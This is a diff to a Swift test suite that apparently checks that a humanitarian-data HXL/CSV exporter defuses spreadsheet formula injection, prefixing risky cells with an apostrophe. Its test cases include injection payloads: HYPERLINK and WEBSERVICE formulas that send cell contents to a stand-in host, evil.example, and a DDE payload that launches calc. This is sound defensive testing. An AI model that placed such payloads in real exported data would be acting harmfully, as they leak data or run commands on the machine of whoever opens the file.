@@ -1,4 +1,4 @@
-import CorridorExport
+@testable import CorridorExport
 import CorridorModel
 import CorridorWire
 import Testing
@@ -168,5 +168,72 @@ func hxlRows(_ text: String) throws -> (headers: [String], hashtags: [String], r
         #expect(rows[2]["#indicator+num+high"] == "1200")
         #expect(rows[2]["#date+end"] == "2018-03-01")
         #expect(rows[2]["#loc+code"] == "")
+    }
+
+    // Issue 8, finding 5: free text went into CSV cells as it came, and a
+    // spreadsheet ran =HYPERLINK("http://…"&K3, …) from a figure's note.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://evil.example/?\"&K3,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&K3,\"click\")"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'=1+1"),
+        ("\r=1+1", "'=1+1"),
+        ("-", "'-"),
+        ("urgent medical", "urgent medical"),
+        ("a=b", "a=b"),
+        ("-12", "-12"),
+        ("+2.5", "+2.5"),
+        ("-0.75", "-0.75"),
+        ("", ""),
+    ])
+    func aCellASpreadsheetWouldRunAsAFormulaIsDefused(written: String, cell: String) throws {
+        var figure = Samples.figures[1]
+        figure.note = written
+        figure.reportedIn = written
+        let (_, _, rows) = try hxlRows(FigureExport.hxl([figure]))
+        #expect(rows.first?["#description"] == cell)
+        // The numbers of the same row are numbers still.
+        #expect(rows.first?["#inneed+evacuation"] == "500")
+        #expect(rows.first?["#meta+reported_in"] == cell)
+    }
+
+    @Test func numbersInNumericColumnsAreNeverPrefixed() {
+        #expect(Cell.defused("-5") == "-5")
+        #expect(Cell.defused("400000") == "400000")
+        #expect(Cell.defused("-5-") == "'-5-")
+        #expect(Cell.defused("-.5") == "'-.5")
+        #expect(Cell.defused("--5") == "'--5")
+        #expect(Cell.defused("-5e3") == "'-5e3")
+    }
+
+    @Test func everyKindOfExportDefusesItsTextCells() throws {
+        let attack = "=WEBSERVICE(\"http://evil.example/\"&A3)"
+        var figure = Samples.figures[0]
+        figure.reportedIn = attack
+        figure.note = attack
+        var movement = Samples.convoy
+        movement.incidents[0].description = attack
+        movement.removals[0].reason = attack
+        var list = Samples.list
+        list.list?.title = attack
+        for text in [FigureExport.hxl([figure]), MovementExport.hxl([movement]), ListExport.hxl([list])] {
+            let (_, _, rows) = try hxlRows(text)
+            for row in rows {
+                for (hashtag, value) in row {
+                    #expect(!value.hasPrefix("="), "\(hashtag) starts with '=': \(value)")
+                }
+            }
+            #expect(text.contains("'" + attack) || text.contains("\"'" + attack.replacingOccurrences(of: "\"", with: "\"\"")))
+        }
+    }
+
+    @Test func libhxlValidatesAnExportWithDefusedCells() async throws {
+        var figures = Samples.figures
+        figures[1].note = "=HYPERLINK(\"http://evil.example/\"&K3,\"more\")"
+        figures[1].reportedIn = "@briefing"
+        figures[2].note = "-1 person, +2 people"
+        let result = try await HXLValidationTests.check([("figures", FigureExport.hxl(figures))])
+        #expect(result.status == 0, "hxl_check.py failed:\n\(result.output)")
     }
 }
